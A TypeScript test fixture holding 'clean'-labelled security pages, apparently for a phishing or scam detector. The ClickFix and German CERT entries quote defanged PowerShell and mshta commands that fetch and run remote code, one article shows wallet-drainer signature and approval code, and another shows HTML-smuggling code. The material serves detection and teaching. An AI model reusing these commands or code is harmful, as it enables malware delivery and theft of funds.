import type { Entry } from '../entry.js';

// Clean pages that quote threats verbatim (security blogs, advisories, consumer warnings) and real vendors'
// security and support pages with alarming language and phone numbers.
const html = String.raw;

export const entries: Entry[] = [
{
  id: 'b-ok-article-clickfix',
  label: 'clean',
  kind: 'article',
  url: 'https://research.blueharbor-security.com/blog/clickfix-campaigns-fake-captcha-2024',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>ClickFix: how fake CAPTCHAs trick users into running PowerShell | Blue Harbor Research</title>
<style>body{margin:0;font-family:"Source Serif Pro",Georgia,serif;color:#1b1b1b}.nav{font-family:Arial;background:#0b2545;color:#fff;padding:14px 30px}.a{max-width:760px;margin:30px auto;line-height:1.7;font-size:18px;padding:0 16px}
pre{font-size:13px;background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;white-space:pre-wrap;word-break:break-all}.ioc td{font-family:monospace;font-size:13px;padding:4px 10px;border-bottom:1px solid #ddd}figure{margin:20px 0;background:#f5f5f5;padding:10px;font-size:14px}</style></head>
<body><div class="nav"><b>Blue Harbor</b> Research · Threat Intelligence</div><article class="a"><h1>ClickFix: how fake CAPTCHAs trick users into running PowerShell</h1><p style="font-family:Arial;font-size:13px;color:#666">By the Blue Harbor Threat Intel team · October 2, 2024</p>
<p>Since spring, we have tracked a growing number of compromised WordPress sites that inject a full-screen "Verify you are human" overlay. Unlike a real CAPTCHA, the overlay copies a command to the clipboard when the checkbox is clicked, and then tells the visitor to press <b>Win+R</b>, <b>Ctrl+V</b> and <b>Enter</b>.</p>
<figure>Figure 1: the injected overlay imitates a Cloudflare Turnstile page and shows "Verification Steps: 1. Press Windows Button + R 2. Press CTRL + V 3. Press Enter".</figure>
<p>The copied command observed in most samples looks like this (defanged):</p>
<pre>powershell -w hidden -c "iwr -useb hxxps://cdn-verify[.]top/r/7f2a.txt | iex" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 2291''</pre>
<p>The trailing comment is the trick: the Run dialog only shows the end of the line, so the victim sees "I am not a robot" instead of the PowerShell. Other variants use <code>mshta</code>:</p>
<pre>mshta hxxps://check-human[.]online/verify.hta # I am not a robot - Verification ID: 7331</pre>
<p>The JavaScript behind the overlay is short. A typical handler:</p>
<pre>document.getElementById('chk').addEventListener('click', function () {
  navigator.clipboard.writeText(cmd);
  document.getElementById('steps').style.display = 'block';
});</pre>
<p>The second stage is usually Lumma Stealer or NetSupport RAT.</p>
<h2>Indicators</h2><table class="ioc"><tr><td>cdn-verify[.]top</td><td>stage-1 host</td></tr><tr><td>check-human[.]online</td><td>HTA host</td></tr><tr><td>185.234.72[.]19</td><td>C2</td></tr></table>
<h2>Mitigation</h2><p>Block the Run dialog via Group Policy for users who don't need it, enable PowerShell Script Block Logging, and teach users that no website needs them to paste anything into Windows.</p></article></body></html>`,
},
{
  id: 'b-ok-article-drainer',
  label: 'clean',
  kind: 'article',
  url: 'https://blog.sentinelchain.io/posts/anatomy-of-a-drainer-kit',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Anatomy of a wallet drainer kit · SentinelChain Blog</title>
<style>body{margin:0;font-family:Inter,Arial;color:#1a1a2e;background:#fafafa}.a{max-width:800px;margin:30px auto;background:#fff;padding:30px 40px;line-height:1.65;border-radius:8px}
pre{background:#1e1e2e;color:#cdd6f4;padding:14px;border-radius:6px;overflow:auto;font-size:13px}.k{color:#cba6f7}.s{color:#a6e3a1}.c{color:#6c7086}</style></head>
<body><article class="a"><h1>Anatomy of a wallet drainer kit</h1><p style="color:#777">SentinelChain Research · 9 min read</p>
<p>Drainer-as-a-service kits are sold on Telegram for a 20–30% cut of stolen funds. We analysed a kit deployed on more than 400 phishing domains impersonating airdrops and NFT mints. Here's what it does once a victim clicks "Claim".</p>
<h2>1. Connect and profile</h2><pre><span class="k">const</span> [owner] = <span class="k">await</span> ethereum.request({ method: <span class="s">'eth_requestAccounts'</span> });
<span class="k">const</span> assets = <span class="k">await</span> fetch(<span class="s">'/api/assets?a='</span> + owner).then(r =&gt; r.json()); <span class="c">// sorted by USD value</span></pre>
<h2>2. Pick the cheapest way to steal</h2><p>For ERC-20 tokens already approved to Permit2, the kit asks for a single off-chain signature:</p>
<pre>ethereum.request({ method: <span class="s">'eth_signTypedData_v4'</span>, params: [owner, JSON.stringify({
  primaryType: <span class="s">'PermitBatch'</span>,
  domain: { name: <span class="s">'Permit2'</span>, chainId: 1, verifyingContract: <span class="s">'0x000000000022D473030F116dDEE9F6B43aC78BA3'</span> },
  message: { details, spender: DRAINER, sigDeadline } })] });</pre>
<p>For NFTs it sends <code>setApprovalForAll(operator, true)</code> (selector <code>0xa22cb465</code>) to every valuable collection, and for tokens without Permit2 it falls back to <code>approve(spender, 2**256-1)</code>. Native ETH is taken last with an <code>eth_sendTransaction</code> whose value is the balance minus gas.</p>
<h2>3. Exfiltrate</h2><p>Signatures are POSTed to the kit's backend, which sweeps funds within seconds. Operators get a Telegram notification with the victim's address and the USD value.</p>
<h2>Detection tips for wallet developers</h2><ul><li>Warn on typed data whose spender is an EOA.</li><li>Show the real amount for Permit signatures ("unlimited").</li><li>Flag setApprovalForAll requests from sites that aren't known marketplaces.</li></ul></article></body></html>`,
},
{
  id: 'b-ok-article-smuggling',
  label: 'clean',
  kind: 'article',
  url: 'https://www.nordsec-labs.fi/en/insights/html-smuggling-explained',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>HTML smuggling explained — and how to detect it | NordSec Labs</title>
<style>body{font-family:"Open Sans",Arial;margin:0;color:#222}.h{background:#002f6c;color:#fff;padding:14px 30px}.a{max-width:760px;margin:30px auto;padding:0 18px;line-height:1.7}pre{background:#f6f8fa;border:1px solid #e1e4e8;padding:12px;overflow:auto;font-size:13px}</style></head>
<body><div class="h">NordSec Labs · Insights</div><div class="a"><h1>HTML smuggling explained — and how to detect it</h1><p><i>Published 21.8.2024 · Incident Response</i></p>
<p>HTML smuggling lets attackers deliver a file through an e-mail gateway or web proxy that would have blocked it. Instead of linking to <code>invoice.zip</code>, the HTML attachment contains the archive as a Base64 string and assembles it in the browser:</p>
<pre>var data = atob("UEsDBBQAAAAAA...");          // the ZIP, inline
var bytes = new Uint8Array(data.length);
for (var i = 0; i &lt; data.length; i++) bytes[i] = data.charCodeAt(i);
var blob = new Blob([bytes], { type: "application/octet-stream" });
if (window.navigator.msSaveOrOpenBlob) {
  window.navigator.msSaveOrOpenBlob(blob, "Invoice_4471.zip");
} else {
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "Invoice_4471.zip";
  a.click();
}</pre>
<p>Because the file never crosses the network as a file, sandbox detonation of the URL or attachment often sees nothing but text. In the cases we handled this year the archive contained an ISO or an LNK pointing to <code>rundll32</code>, or a JScript file.</p>
<h2>Detection</h2><ul><li>Alert on browsers writing .iso/.img/.lnk/.js/.hta files to the Downloads folder.</li><li>Inspect HTML attachments for large Base64 blobs combined with <code>createObjectURL</code> and the <code>download</code> attribute.</li><li>Block auto-mounting of ISO images via policy where possible.</li></ul>
<p>Need help? Our 24/7 incident response line: <b>+358 9 4241 7700</b>.</p></div></body></html>`,
},
{
  id: 'b-ok-article-giveaway-scam',
  label: 'clean',
  kind: 'article',
  url: 'https://www.tecnoprensa.es/seguridad/estafas-sorteos-criptomonedas-youtube-directos',
  body: html`<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Vuelven las estafas de «sorteos» de criptomonedas en directos falsos de YouTube | TecnoPrensa</title>
<style>body{font-family:Merriweather,Georgia,serif;margin:0;color:#222}.cab{background:#d32f2f;color:#fff;padding:12px 30px;font-family:Arial;font-weight:bold}.a{max-width:740px;margin:30px auto;line-height:1.75;padding:0 16px;font-size:18px}
blockquote{border-left:4px solid #d32f2f;padding:4px 16px;margin:16px 0;background:#fafafa;font-size:16px}code{font-size:14px;word-break:break-all}</style></head>
<body><div class="cab">TecnoPrensa · Seguridad</div><article class="a"><h1>Vuelven las estafas de «sorteos» de criptomonedas en directos falsos de YouTube</h1><p style="font-family:Arial;font-size:13px;color:#777">Laura Méndez · 8 de octubre · 5 min</p>
<p>Canales de YouTube robados emiten vídeos antiguos de empresarios conocidos como si fueran en directo, con un código QR que lleva a una web de «sorteo». El texto se repite casi palabra por palabra:</p>
<blockquote>«Para participar, envíe entre 0,1 y 20 ETH a la dirección de abajo y recibirá inmediatamente el doble. Si envía 1 ETH, recibirá 2 ETH de vuelta.»</blockquote>
<p>Las webs muestran una tabla de «transacciones en vivo» generada con JavaScript para simular que otros participantes ya han recibido su premio. Una de las direcciones denunciadas esta semana es <code>0x7B3c9E1a5D2f4A8b6C0e9F1d3A5c7E9b2D4f6A81</code>, que ha recibido más de 40 ETH.</p>
<p>Ninguna empresa regala criptomonedas a cambio de un envío previo. Si ya ha enviado fondos, las transferencias no se pueden revertir, pero conviene denunciarlo ante la policía y el exchange desde el que envió.</p></article></body></html>`,
},
{
  id: 'b-ok-article-de-cert',
  label: 'clean',
  kind: 'article',
  url: 'https://www.cert-kommunal.de/warnungen/2024-117-gefaelschte-captcha-seiten',
  body: html`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Warnung 2024-117: Gefälschte CAPTCHA-Seiten verleiten zur Ausführung von Schadcode | CERT Kommunal</title>
<style>body{font-family:Arial,sans-serif;margin:0;color:#222}.k{background:#00305e;color:#fff;padding:14px 30px}.w{max-width:800px;margin:26px auto;padding:0 18px;line-height:1.65}.t{border-collapse:collapse}.t td{border:1px solid #ccc;padding:5px 10px}
pre{background:#f1f1f1;padding:10px;white-space:pre-wrap;word-break:break-all;font-size:13px}</style></head>
<body><div class="k"><b>CERT Kommunal</b> · Warn- und Informationsdienst</div><div class="w"><h1>Warnung 2024-117: Gefälschte CAPTCHA-Seiten verleiten zur Ausführung von Schadcode</h1>
<table class="t"><tr><td>Risikostufe</td><td><b>3 (hoch)</b></td></tr><tr><td>Betroffen</td><td>Windows-Arbeitsplätze aller Verwaltungen</td></tr><tr><td>Stand</td><td>15.10.2024</td></tr></table>
<h2>Sachverhalt</h2><p>Auf kompromittierten Webseiten wird eine angebliche Prüfung „Bestätigen Sie, dass Sie ein Mensch sind" angezeigt. Nach dem Klick werden Nutzende aufgefordert, <b>Windows-Taste + R</b> zu drücken, mit <b>Strg + V</b> einzufügen und mit <b>Enter</b> zu bestätigen. Dabei wird ein zuvor in die Zwischenablage kopierter Befehl ausgeführt, z. B.:</p>
<pre>powershell.exe -W Hidden -c "irm hxxps://verifizierung-dienst[.]com/c.txt | iex"</pre>
<h2>Empfehlungen</h2><ul><li>Beschäftigte sensibilisieren: Keine Webseite verlangt das Einfügen von Befehlen in den Ausführen-Dialog.</li><li>Ausführen-Dialog per GPO (NoRun) für Standardbenutzer deaktivieren.</li><li>PowerShell Constrained Language Mode und AppLocker-Regeln prüfen.</li></ul>
<p>Bei Verdacht auf Kompromittierung wenden Sie sich an die Rufbereitschaft: <b>0711 89 24 600</b>.</p></div></body></html>`,
},
{
  id: 'b-ok-av-renewal',
  label: 'clean',
  kind: 'support-page',
  url: 'https://my.shieldwise.com/subscriptions/renew?sub=AVP-88213',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Renew your subscription | My ShieldWise</title>
<style>body{margin:0;font-family:Poppins,Arial;background:#f6f6f9;color:#1c1c28}.t{background:#fff;border-bottom:1px solid #e6e6ef;padding:14px 30px}.t b{color:#e0102a}.c{max-width:620px;margin:40px auto;background:#fff;border-radius:10px;padding:28px}
.row{display:flex;justify-content:space-between;padding:10px 0;border-bottom:1px solid #f0f0f5}.b{background:#e0102a;color:#fff;border:0;border-radius:6px;padding:12px 24px;font-size:15px;cursor:pointer}.warn{background:#fff7e6;border:1px solid #ffd591;border-radius:6px;padding:10px 14px;font-size:14px}</style></head>
<body><div class="t"><b>ShieldWise</b> · My Account</div><div class="c"><h2>Your protection expires in 6 days</h2><div class="warn">After your subscription expires, real-time protection and Web Shield will stop working. Your files are not affected.</div>
<div class="row"><span>Product</span><span>Antivirus Plus · 3 devices</span></div><div class="row"><span>Expires</span><span>Nov 29, 2024</span></div><div class="row"><span>Renewal price</span><span>$59.99 / year</span></div><div class="row"><span>Payment method</span><span>Visa •••• 4412</span></div>
<form action="/subscriptions/renew/confirm" method="post"><p><label><input type="checkbox" name="autorenew" checked> Turn on auto-renewal (you can cancel anytime in My Account; 60-day refund guarantee)</label></p><button class="b">Renew now</button></form>
<p style="font-size:13px;color:#666">Questions about billing? Call 1-800-555-0142 or chat with us from this page. To cancel, go to <a href="/subscriptions">Subscriptions</a> — no phone call needed.</p></div></body></html>`,
},
];
